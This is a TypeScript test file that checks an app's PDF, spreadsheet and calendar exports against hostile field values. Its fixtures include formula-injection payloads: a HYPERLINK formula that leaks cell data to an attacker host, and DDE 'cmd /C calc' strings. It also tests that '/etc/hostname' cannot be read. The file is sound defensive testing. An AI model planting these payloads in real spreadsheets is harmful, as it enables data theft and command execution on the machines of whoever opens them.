import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChannelName } from '../../src-main/api/contract/channel-names';
import { openPractice, type OpenPractice } from '../../src-main/api/open-practice';
import { renderPdf } from '../../src-main/export/pdf/render';
import { CELL_LIMIT, cellText } from '../../src-main/export/xlsx/xlsx-cells';
import type { PracticeData } from '../../src-main/domain/practice';
import { folderPlatform, REPOSITORY_ROOT } from '../harness/test-platform';
import { fillStrings } from './fill-strings';
import { EXPORT_CHANNELS, exportCalls } from './export-inputs';

/**
 * Every export kind of the contract, made for a client whose every text field is hostile: formula
 * starters, control characters, broken surrogates, Hebrew, Arabic, Chinese, Japanese, Korean, emoji,
 * words of 500 letters and notes of 20,000 characters. Each document is made without a crash; PDFs
 * draw every script they have a font for and mark the rest with U+FFFD, and no word leaves its page;
 * workbooks hold exactly the formulas the same workbook of a plain twin client holds, every hostile
 * value as a plain string, and LibreOffice opens them.
 */

const FONTS = path.join(REPOSITORY_ROOT, 'resources/fonts');

/** Probes in the client's name, which every document shows: each must come out drawn. */
const DRAWN = { hebrew: 'משרד', arabic: 'مكتب', chinese: '北京', japanese: 'オフィス', emoji: '🚀' };
const KOREAN = '서울';
const HOSTILE_NAME = `=${DRAWN.hebrew} ${DRAWN.arabic} ${DRAWN.chinese} ${DRAWN.japanese} ${DRAWN.emoji} ${KOREAN}`;

/** One hostile value of each kind; the short ones fit every name field (at most 120 characters). */
const HOSTILE = {
  formulaEquals: '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
  formulaPlus: '+1+cmd|" /C calc"!A0',
  formulaMinus: '-2+3+cmd|" /C calc"!A0',
  formulaAt: '@SUM(1+9)*cmd|" /C calc"!A0',
  leadingTab: '\t=1+1',
  leadingReturn: '\r=1+1',
  controls: 'Bell\u0007 escape\u001b null\u0000 end',
  loneSurrogates: 'Broken \ud800 and \udfff halves',
  rightToLeft: 'שלום עולם · مرحبا بالعالم',
  cjk: '北京办公室 東京オフィス 서울 사무소',
  emoji: 'Rocket 🚀 thumbs 👍🏽 family 👨‍👩‍👧 flag 🇨🇦',
  longWord: 'W'.repeat(120),
} as const;
const WORD_500 = 'Ü'.repeat(500);
const NOTE_20K = `${WORD_500} ${'Lorem ipsum שלום 北京 🚀 '.repeat(900)}`.slice(0, 20_000);

let workDir = '';
let practice: OpenPractice;
let saved: string[] = [];
const ids = { hostile: '', twin: '' };

interface Made {
  channel: ChannelName;
  input: Record<string, unknown>;
  /** The hostile client, its plain twin, or a sample client with every free-text field made hostile. */
  client: 'hostile' | 'twin' | 'sample';
  file: string;
}
let hostileFields = 0;
const made: Made[] = [];

async function invoke<T>(channel: string, input: unknown): Promise<T> {
  const result = await practice.registry.invoke(channel, input);
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`);
  return result.value as T;
}

/** A client with one asset, service and initiative a hostile value, or the same shape in plain words. */
async function seedClient(hostile: boolean): Promise<string> {
  const values = Object.values(HOSTILE);
  const say = (index: number, plain: string) => (hostile ? values[index % values.length]! : plain);
  const { client } = await invoke<{ client: { id: string } }>('clients.create', {
    client: {
      name: hostile ? HOSTILE_NAME : 'Plain Twin Dental',
      industry: say(1, 'Dental'),
      address: say(8, '1 Main Street'),
      notes: hostile ? NOTE_20K : 'Plain notes',
      privateNotes: hostile ? NOTE_20K : 'Plain private notes',
      contacts: [{ name: say(8, 'Maya Chen'), role: say(0, 'Owner') }],
      otherCompliance: say(10, 'None'),
      users: 12,
    },
  });
  for (const [index] of values.entries()) {
    await invoke('assets.create', {
      clientId: client.id,
      asset: { name: say(index, `Asset ${index}`), category: 'workstation', unitCostCents: 100_000 + index, purchaseDate: '2023-04-01', serial: say(index + 1, 'SN-1'), location: say(index + 2, 'Desk'), notes: hostile ? NOTE_20K : 'Plain' },
    });
    await invoke('services.create', {
      clientId: client.id,
      service: { name: say(index, `Service ${index}`), vendor: say(index + 3, 'Vendor'), unitCostCents: 2_000 + index, startDate: '2025-01-01', notes: hostile ? NOTE_20K : 'Plain' },
    });
    await invoke('initiatives.create', {
      clientId: client.id,
      initiative: {
        title: say(index, `Initiative ${index}`),
        description: hostile ? NOTE_20K : 'Plain',
        owner: say(index + 4, 'Maya'),
        businessImpact: { productivity: hostile ? WORD_500 : 'Faster', businessRisk: say(index + 5, 'Lower'), opportunityCost: say(index + 6, 'None') },
        oneTimeCostCents: 300_000 + index,
        startQuarter: { fiscalYear: 2027, quarter: 1 + (index % 4) },
      },
    });
  }
  return client.id;
}

/** The record a path of the practice points into (a client, an asset...), to tell whose text it is. */
function ownerOf(data: PracticeData, path: readonly (string | number)[]): { clientId?: string; id?: string } | null {
  const collection = (data as unknown as Record<string, unknown>)[String(path[0])];
  return Array.isArray(collection) && typeof path[1] === 'number' ? (collection[path[1]] as { clientId?: string; id?: string }) : null;
}

beforeAll(async () => {
  workDir = mkdtempSync(path.join(os.tmpdir(), 'vcio-hostile-'));
  const { platform, record } = folderPlatform(path.join(workDir, 'exports'));
  saved = record.saved;
  practice = await openPractice({ dataDir: path.join(workDir, 'data'), platform, clock: () => new Date('2026-11-22T10:00:00Z') });
  await invoke('settings.update', {
    changes: { consultant: { name: HOSTILE.formulaAt, company: `${HOSTILE.rightToLeft} ${HOSTILE.emoji}`, email: '', phone: HOSTILE.controls.slice(0, 40), website: '', address: HOSTILE.cjk }, confidentialityLine: `${HOSTILE.formulaEquals} ${HOSTILE.loneSurrogates}` },
  });
  await invoke('sample.load', {});
  ids.hostile = await seedClient(true);
  ids.twin = await seedClient(false);
  // Every other free-text field of every record of the sample practice, whatever its feature, turns hostile.
  const values = Object.values(HOSTILE);
  let next = 0;
  const hostileData = fillStrings(practice.store.data, (key, _value, where) => {
    const owner = ownerOf(practice.store.data, where);
    if (owner && (owner.id === ids.twin || owner.clientId === ids.twin || owner.id === ids.hostile || owner.clientId === ids.hostile)) return null;
    next += 1;
    return /notes|description|note$/i.test(key) ? `${WORD_500} ${values.join(' ')}` : values[next % values.length]!;
  });
  hostileFields = hostileData.filled.length;
  await practice.store.mutate((draft) => void Object.assign(draft, hostileData.data));
  // The hostile client, its twin, and as few sample clients as it takes to reach every export kind.
  const chosen = [ids.hostile, ids.twin];
  const covered = new Set(exportCalls(practice.store.data, 'every', chosen).map((call) => call.channel));
  for (const client of practice.store.data.clients) {
    const adds = exportCalls(practice.store.data, 'every', [client.id]).filter((call) => call.clientId !== null && !covered.has(call.channel));
    if (adds.length === 0) continue;
    chosen.push(client.id);
    for (const call of adds) covered.add(call.channel);
  }
  for (const { channel, clientId, input } of exportCalls(practice.store.data, 'every', chosen)) {
    const who = clientId === ids.twin ? 'twin' : clientId === ids.hostile ? 'hostile' : 'sample';
    const result = await invoke<{ savedTo: string | null }>(channel, input);
    if (!result.savedTo) throw new Error(`${channel} saved nothing`);
    // Each kind and option to its own file: exports of one client share a suggested name.
    const file = path.join(workDir, `${made.length}${path.extname(result.savedTo)}`);
    writeFileSync(file, readFileSync(result.savedTo));
    made.push({ channel, input, client: who, file });
  }
}, 600_000);

afterAll(async () => {
  await practice?.close();
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

function pdfText(file: string): string {
  return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
}

interface WordBox {
  word: string;
  page: number;
  xMin: number;
  xMax: number;
  yMin: number;
  yMax: number;
}

/** Every word's box and its page's size, from pdftotext's bounding-box output. */
function wordBoxes(file: string): { pages: Array<{ width: number; height: number }>; words: WordBox[] } {
  const html = execFileSync('pdftotext', ['-bbox', file, '-'], { encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 });
  const pages: Array<{ width: number; height: number }> = [];
  const words: WordBox[] = [];
  for (const line of html.split('\n')) {
    const page = /<page width="([\d.]+)" height="([\d.]+)"/.exec(line);
    if (page) pages.push({ width: Number(page[1]), height: Number(page[2]) });
    const word = /<word xMin="([\d.-]+)" yMin="([\d.-]+)" xMax="([\d.-]+)" yMax="([\d.-]+)">(.*)<\/word>/.exec(line);
    if (word) words.push({ page: pages.length - 1, xMin: Number(word[1]), yMin: Number(word[2]), xMax: Number(word[3]), yMax: Number(word[4]), word: word[5]! });
  }
  return { pages, words };
}


const pdfsOf = (...clients: Made['client'][]) => made.filter((entry) => clients.includes(entry.client) && entry.file.endsWith('.pdf'));
const workbooks = (...clients: Made['client'][]) => made.filter((entry) => clients.includes(entry.client) && entry.file.endsWith('.xlsx'));
const describeMade = (entry: Made) => `${entry.channel} ${JSON.stringify(entry.input)}`;

describe('hostile content in every export kind of the contract', () => {
  it('made every export kind, with every option, for the hostile client and its twin', () => {
    expect(EXPORT_CHANNELS.length).toBeGreaterThanOrEqual(3);
    for (const channel of EXPORT_CHANNELS) expect(made.filter((entry) => entry.channel === channel && entry.client !== 'twin').length, channel).toBeGreaterThan(0);
    expect(saved.length).toBe(made.length);
    expect(made.filter((entry) => entry.file.endsWith('.ics')).length).toBeGreaterThan(0);
    expect(hostileFields).toBeGreaterThan(100);
    console.log(
      `hostile exports: ${made.length} documents of ${EXPORT_CHANNELS.length} export kinds (${EXPORT_CHANNELS.map((channel) => `${channel} ${made.filter((entry) => entry.channel === channel && entry.client !== 'twin').length}`).join(', ')}); ` +
        `${Object.keys(HOSTILE).length + 3} hostile values, ${hostileFields} sample fields made hostile`,
    );
  });

  it('draws Hebrew, Arabic, Chinese, Japanese and emoji in every PDF, and marks Korean (no font for it) with U+FFFD', () => {
    expect(pdfsOf('hostile').length).toBeGreaterThan(0);
    for (const entry of pdfsOf('hostile')) {
      const text = pdfText(entry.file);
      const where = describeMade(entry);
      for (const [script, probe] of Object.entries(DRAWN)) expect(text.includes(probe), `${script} in ${where}`).toBe(true);
      expect(text.includes(KOREAN), where).toBe(false);
      expect(text.includes('\ufffd'), where).toBe(true);
    }
  });

  it('embeds every font it uses, the bundled Noto fonts among them', () => {
    for (const entry of pdfsOf('hostile', 'sample')) {
      const fonts = execFileSync('pdffonts', [entry.file], { encoding: 'utf8' }).split('\n').slice(2).filter(Boolean);
      expect(fonts.every((line) => /\byes\s+yes\s+yes\b/.test(line)), fonts.join('\n')).toBe(true);
      if (entry.client !== 'hostile') continue;
      for (const family of ['NotoSansHebrew', 'NotoNaskhArabic', 'NotoSansHans', 'NotoEmoji']) expect(fonts.some((line) => line.includes(family)), `${family} in ${entry.channel}`).toBe(true);
    }
  });

  it('keeps every word of every PDF inside its page, the 500-letter words and 20,000-character notes too', () => {
    for (const entry of pdfsOf('hostile', 'sample')) {
      const { pages, words } = wordBoxes(entry.file);
      expect(words.length, describeMade(entry)).toBeGreaterThan(20);
      const outside = words.filter((word) => {
        const page = pages[word.page]!;
        return word.xMin < -0.5 || word.yMin < -0.5 || word.xMax > page.width + 0.5 || word.yMax > page.height + 0.5;
      });
      expect(outside.map((word) => `${word.page + 1}: ${word.word.slice(0, 30)}`), describeMade(entry)).toEqual([]);
      // Where the 500-letter word is shown, it is drawn whole, broken over lines, or visibly shortened (a one-line summary ends in "…").
      const pieces = words.filter((word) => word.word.startsWith('ÜÜÜÜ'));
      const longWord = pieces.reduce((sum, word) => sum + word.word.length, 0);
      if (longWord > 0 && longWord < 500) expect(pieces.some((word) => word.word.endsWith('…')), describeMade(entry)).toBe(true);
      if (entry.client === 'hostile' && entry.channel === 'export.clientProfilePdf') expect(longWord).toBeGreaterThanOrEqual(500);
    }
  });

  it('writes exactly the formulas the plain twin’s workbook has: none comes from a hostile value', async () => {
    const formulasOf = async (file: string) => {
      const zip = await JSZip.loadAsync(readFileSync(file));
      const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name)).sort();
      const formulas: string[] = [];
      for (const sheet of sheets) {
        const xml = await zip.file(sheet)!.async('string');
        for (const match of xml.matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)) formulas.push(`${sheet}: ${match[1]}`);
        // Shared or array formulas would hide text from the comparison above.
        expect(xml.includes('t="shared"') || xml.includes('t="array"'), sheet).toBe(false);
      }
      const definedNames = await zip.file('xl/workbook.xml')!.async('string');
      return { formulas, definedNames: [...definedNames.matchAll(/<definedName[^>]*>([^<]*)<\/definedName>/g)].map((match) => match[1]) };
    };
    expect(workbooks('hostile').length).toBeGreaterThan(0);
    expect(workbooks('twin').length).toBe(workbooks('hostile').length);
    workbooks('twin').forEach((twin, index) => expect(twin.channel).toBe(workbooks('hostile')[index]!.channel));
    for (const [index, hostile] of workbooks('hostile').entries()) {
      const mine = await formulasOf(hostile.file);
      const twins = await formulasOf(workbooks('twin')[index]!.file);
      expect(mine.formulas.length, hostile.channel).toBeGreaterThan(0);
      // Rows are sorted by name, so the same formulas may stand in another order.
      expect(mine.formulas.toSorted(), hostile.channel).toEqual(twins.formulas.toSorted());
      expect(mine.definedNames, hostile.channel).toEqual(twins.definedNames);
    }
    // The sample clients have no twin: no formula of theirs holds a piece of hostile text.
    for (const entry of workbooks('sample')) {
      const { formulas } = await formulasOf(entry.file);
      expect(formulas.filter((formula) => /HYPERLINK|cmd|calc|attacker|SUM\(1\+9\)|1\+1/.test(formula)), describeMade(entry)).toEqual([]);
    }
  });

  it('keeps every hostile name as a plain string cell, with what XML cannot carry marked', async () => {
    expect(workbooks('hostile').length).toBeGreaterThan(0);
    for (const entry of workbooks('hostile')) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(readFileSync(entry.file) as unknown as ArrayBuffer);
      const strings = new Set<string>();
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && strings.add(cell.value)))));
      // Stored values are trimmed, so a leading tab or return is gone before any export sees it.
      for (const value of [HOSTILE.formulaEquals, HOSTILE.formulaPlus, HOSTILE.formulaMinus, HOSTILE.formulaAt, '=1+1', HOSTILE.rightToLeft, HOSTILE.cjk, HOSTILE.emoji, HOSTILE.longWord]) {
        expect(strings.has(value), `${JSON.stringify(value)} in ${entry.channel}`).toBe(true);
      }
      expect(strings.has('Bell\ufffd escape\ufffd null\ufffd end'), entry.channel).toBe(true);
      expect(strings.has('Broken \ufffd and \ufffd halves'), entry.channel).toBe(true);
    }
  });

  it('opens in LibreOffice: every hostile workbook converts, and so does one with a cell past 32,767 characters', async () => {
    const longCell = new ExcelJS.Workbook();
    const { writeCell, text } = await import('../../src-main/export/xlsx/xlsx-cells');
    writeCell(longCell.addWorksheet('Long').getCell('A1'), text(`${'Z'.repeat(40_000)}\u0000`));
    const longFile = path.join(workDir, 'long-cell.xlsx');
    writeFileSync(longFile, Buffer.from(await longCell.xlsx.writeBuffer()));
    const files = [...workbooks('hostile', 'sample').map((entry) => entry.file), longFile];
    const outDir = path.join(workDir, 'libreoffice');
    mkdirSync(outDir);
    execFileSync('soffice', ['--headless', `-env:UserInstallation=file://${path.join(workDir, 'lo-profile')}`, '--convert-to', 'csv', '--outdir', outDir, ...files], { stdio: 'pipe', timeout: 240_000 });
    const converted = readdirSync(outDir);
    for (const file of files) expect(converted, file).toContain(`${path.basename(file, '.xlsx')}.csv`);
    const longCsv = readFileSync(path.join(outDir, 'long-cell.csv'), 'utf8');
    expect(longCsv).toContain('cut: 40,001 characters');
  }, 300_000);
});

describe('hostile content in calendar files', () => {
  it('keeps every calendar file to property lines: no value starts a line of its own or carries a control character', () => {
    const calendars = made.filter((entry) => entry.file.endsWith('.ics') && entry.client !== 'twin');
    for (const entry of calendars) {
      const text = new TextDecoder('utf-8', { fatal: true }).decode(readFileSync(entry.file));
      expect(text.startsWith('BEGIN:VCALENDAR\r\n'), describeMade(entry)).toBe(true);
      const lines = text.split('\r\n').filter((line) => line !== '');
      expect(lines.filter((line) => !/^([A-Z][A-Z0-9-]*[;:]| )/.test(line)), describeMade(entry)).toEqual([]);
      // eslint-disable-next-line no-control-regex
      expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]|\r(?!\n)|(?<!\r)\n/.test(text), describeMade(entry)).toBe(false);
    }
  });
});

describe('cell text', () => {
  it('keeps text a cell can hold, marks what XML cannot carry, and cuts past the limit with a note', () => {
    expect(cellText('=1+1')).toBe('=1+1');
    expect(cellText('שלום 🚀 👨‍👩‍👧')).toBe('שלום 🚀 👨‍👩‍👧');
    expect(cellText('a\u0000b\u0007c\td\ne')).toBe('a\ufffdb\ufffdc\td\ne');
    expect(cellText('x\ud800y\udc00z')).toBe('x\ufffdy\ufffdz');
    const cut = cellText('Q'.repeat(CELL_LIMIT + 1));
    expect(cut.length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(cut).toMatch(/cut: 32,768 characters/);
    // A cut never leaves half of an emoji behind.
    const emojiCut = cellText('🚀'.repeat(CELL_LIMIT));
    expect(emojiCut.length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(/[\ud800-\udbff](?![\udc00-\udfff])/.test(emojiCut)).toBe(false);
  });
});

describe('pdfmake reaches nothing outside the bundled fonts', () => {
  it.each([
    ['an image on the web', 'https://example.com/logo.png'],
    ['an image on this machine', 'http://127.0.0.1:9/logo.png'],
    ['a file outside the fonts folder', '/etc/hostname'],
    ['a file beside the fonts folder', path.join(FONTS, '..', 'icon.png')],
  ])('refuses %s', async (_what, image) => {
    await expect(renderPdf({ content: [{ image }] }, FONTS)).rejects.toThrow();
  });

  it('still reads the bundled fonts', async () => {
    const bytes = await renderPdf({ content: ['Plain text', 'שלום'] }, FONTS);
    expect(Buffer.from(bytes.subarray(0, 5)).toString()).toBe('%PDF-');
  });
});
